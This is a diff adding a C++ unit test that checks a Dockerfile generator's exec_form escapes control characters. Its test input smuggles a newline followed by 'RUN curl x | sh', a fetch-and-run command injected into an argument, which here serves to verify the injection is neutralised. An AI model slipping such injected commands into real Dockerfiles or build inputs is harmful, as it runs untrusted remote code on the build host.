@@ -28,6 +28,11 @@ TEST(Detect, ImageNamesAreLowerCaseAndDashed) {
 
 TEST(Detect, ExecFormEscapesQuotes) { EXPECT_EQ(exec_form({"sh", "say \"hi\""}), "[\"sh\", \"say \\\"hi\\\"\"]"); }
 
+// A newline in a JSON array would end the Dockerfile instruction and start another.
+TEST(Detect, ExecFormEscapesControlCharactersSoTheArrayStaysOneLine) {
+  EXPECT_EQ(exec_form({"a\nRUN curl x | sh", "t\tb\\", std::string("\x01\x7f", 2)}), "[\"a\\nRUN curl x | sh\", \"t\\tb\\\\\", \"\\u0001\\u007f\"]");
+}
+
 TEST(Detect, PinnedBasesAndTheFallback) {
   bool pinned = false;
   EXPECT_NE(Bases::get().image("python", "3.12", &pinned).find("@sha256:"), std::string::npos);
